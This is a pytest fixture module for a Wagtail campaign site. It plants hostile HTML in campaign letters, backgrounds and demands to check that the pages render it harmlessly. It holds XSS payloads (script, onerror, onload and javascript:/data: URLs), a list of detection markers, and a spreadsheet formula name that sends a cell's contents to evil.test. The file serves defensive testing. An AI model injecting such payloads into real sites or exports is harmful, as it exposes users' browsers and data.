"""Hostile content: CMS HTML written straight into the database, and signers' text."""

from __future__ import annotations

import pytest
from wagtail.rich_text import RichText

from campaigns.models import CampaignPage
from tests.factories import campaign_page
from tests.pages.conftest import serve_as_home

# Each payload would set `window.__pwned` (and open a dialog) if it ever ran.
HOSTILE_HTML = (
    "<p>Dear Mayor,<script>window.__pwned='script';alert(1)</script></p>"
    '<p><img src="x" onerror="window.__pwned=\'onerror\';alert(2)"></p>'
    '<p><a id="hostile-link" href="javascript:window.__pwned=\'link\';alert(3)">'
    "Read the demands</a></p>"
    "<p><svg onload=\"window.__pwned='svg'\"></svg>"
    "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>"
    "<a href=\"data:text/html,<script>parent.__pwned='data'</script>\">data</a></p>"
)
HOSTILE_DEMAND = "<script>window.__pwned='demand'</script>Stop the raids"
MARKERS = ("__pwned", "<script>window", "onerror=", "onload=", "javascript:", "data:")
# What a signer might type as a name.
MARKUP_NAME = "<img src=x onerror=alert(1)>"
FORMULA_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'


def hostile_campaign(**fields: object) -> CampaignPage:
    """A published campaign whose letter, background and demands carry payloads."""
    defaults: dict[str, object] = {
        "slug": "hostile",
        "letter": HOSTILE_HTML,
        "background": [("paragraph", RichText(HOSTILE_HTML))],
        "demands": [("demand", HOSTILE_DEMAND)],
    }
    defaults.update(fields)
    return campaign_page(**defaults)


@pytest.fixture
def hostile(db) -> CampaignPage:
    """`hostile_campaign()`, served as the default site's home (`/en/`)."""
    return serve_as_home(hostile_campaign())


def markers_in(html: str) -> list[str]:
    """Return the payload markers left in `html`."""
    return [marker for marker in MARKERS if marker in html]
